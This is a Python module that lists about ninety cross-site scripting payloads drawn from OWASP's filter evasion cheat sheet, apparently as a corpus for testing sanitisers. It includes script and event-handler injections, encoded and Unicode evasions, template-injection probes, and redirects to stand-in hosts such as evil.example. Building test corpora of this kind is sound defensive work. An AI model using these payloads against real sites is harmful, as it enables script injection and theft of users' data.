"""Texts that try to act on a page: the classes of OWASP's XSS filter evasion cheat sheet, and how they are combined.

https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
"""

from __future__ import annotations

from itertools import product

PLAIN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><body onpageshow=alert(1)>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}`${alert(1)}`",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<style>@import'http://127.0.0.1:1/x'</style>",
    "\"'onfocus=alert(1) autofocus x='",
    "]]><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input autofocus>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
]
MALFORMED = [
    '<img """><script>alert(1)</script>">',
    "<a onmouseover=alert(1)>x</a",
    "<<script>alert(1);//<</script>",
    "<script src=http://127.0.0.1:1/x.js?< b >",
    "<img src=`javascript:alert(1)`",
    "<script/xss src='http://127.0.0.1:1/x.js'></script>",
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<svg/onload=alert(1)",
    "<iframe src=http://127.0.0.1:1/x <",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--",
    '\'";!--"<XSS>=&{()}',
]
ENCODED = [
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    " &#14; javascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097script:alert(1)",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x0c>alert(1)</script\x0b>",
    "java\tscript:alert(1)",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\';alert(1);//",
]
ELSEWHERE = [
    "<base href='http://127.0.0.1:1/'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv='Set-Cookie' content='a=<script>alert(1)</script>'>",
    "<link rel=stylesheet href=http://127.0.0.1:1/x.css>",
    "<object data=http://127.0.0.1:1/x type=text/html></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<div style=\"background-image:url('http://127.0.0.1:1/x')\">",
    "<div style='width:expression(alert(1))'>",
    "<img src='http://127.0.0.1:1/x' srcset='http://127.0.0.1:1/y 2x'>",
    "<video poster=http://127.0.0.1:1/x><source onerror=alert(1)></video>",
    "<table background='javascript:alert(1)'><td background='http://127.0.0.1:1/x'>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<button form=filter formaction='javascript:alert(1)'>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'/></foreignObject></svg>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example",
    "https://user@evil.example/#<script>",
    "[x](javascript:alert(1))",
    "![x](http://127.0.0.1:1/x)",
    "<id=content>",
    "<a id=filter name=filter><a id=filter name=action href=//evil.example>",
    "__proto__",
    "constructor",
    "{% import 'os' as os %}{{ os }}",
    "{{ ''.__class__.__mro__ }}",
    "#{7*7}<%= 7*7 %>",
    "url(#x);}*{background:url(http://127.0.0.1:1/x)}",
]
_EVENTS = ("onload", "onerror", "onfocus autofocus", "onmouseover", "onanimationstart", "onpointerenter", "onscroll",
           "ontoggle", "onbeforeinput", "onbegin", "oncut")  # fmt: skip
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input", "details open", "marquee", "select", "div")
HANDLERS = [f"<{tag} {event.replace(' ', '=alert(1) ', 1)}{'' if ' ' in event else '=alert(1)'}>"
            for tag, event in product(_TAGS, _EVENTS)]  # fmt: skip

PAYLOADS = list(dict.fromkeys([*PLAIN, *MALFORMED, *ENCODED, *ELSEWHERE, *HANDLERS]))
FEW = [*PLAIN, *MALFORMED, *ENCODED, *ELSEWHERE]
"""Without the combinations of elements and handlers, for where each text costs much."""
